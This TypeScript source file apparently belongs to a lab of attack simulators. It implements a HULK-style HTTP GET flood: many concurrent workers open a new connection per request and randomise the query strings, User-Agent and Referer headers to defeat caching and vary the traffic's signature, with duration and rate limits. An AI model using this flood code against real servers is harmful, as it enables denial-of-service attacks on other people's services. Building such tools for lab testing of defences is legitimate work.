/**
 * HTTP GET flood in the manner of HULK: every request goes on a new TCP connection, carries a
 * unique random query string and random User-Agent and Referer, and sets `Cache-Control: no-cache`.
 * Many workers run at once. A test tool for the lab, bounded by duration and an optional rate.
 *
 * Usage: node --import tsx lab/attacks/hulk.ts '<HttpAttackConfig JSON>'
 */
import { SeededRandom } from '../random.ts';
import { REFERERS, USER_AGENTS } from '../agents/user-agents.ts';
import { RateLimiter } from './rate-limiter.ts';
import { createCounters, hostHeader, printResult, readAttackConfig, sendCountedRequest, stopSignal } from './http-flood-common.ts';

const config = readAttackConfig('hulk');
const signal = stopSignal(config.durationMs);
const counters = createCounters('hulk');
const limiter = new RateLimiter(config.maxRequestsPerSecond);

function oneRequest(random: SeededRandom): Promise<void> {
  const path = `/?${random.token(random.int(3, 10))}=${random.token(random.int(3, 10))}`;
  const headers = {
    Host: hostHeader(config.targetAddress, config.port),
    'User-Agent': random.pick(USER_AGENTS),
    'Cache-Control': 'no-cache',
    'Accept-Charset': 'ISO-8859-1,utf-8;q=0.7,*;q=0.7',
    Referer: `${random.pick(REFERERS)}${random.token(random.int(5, 10))}`,
    'Keep-Alive': String(random.int(110, 120)),
    Connection: 'keep-alive',
  };
  counters.connections++;
  // agent: false opens a fresh connection. The socket is ended after one response, as a
  // one-shot HTTP library does, even though the request headers ask for keep-alive.
  return sendCountedRequest({ host: config.targetAddress, port: config.port, path, headers, agent: false }, counters, undefined, (req) => req.socket?.end());
}

async function worker(random: SeededRandom): Promise<void> {
  while (!signal.aborted) {
    await limiter.take();
    if (signal.aborted) break;
    await oneRequest(random);
  }
}

const root = new SeededRandom(config.seed);
await Promise.all(Array.from({ length: config.concurrency }, (_, i) => worker(new SeededRandom(root.derive(`w${i}`)))));
printResult(counters);
process.exit(0);
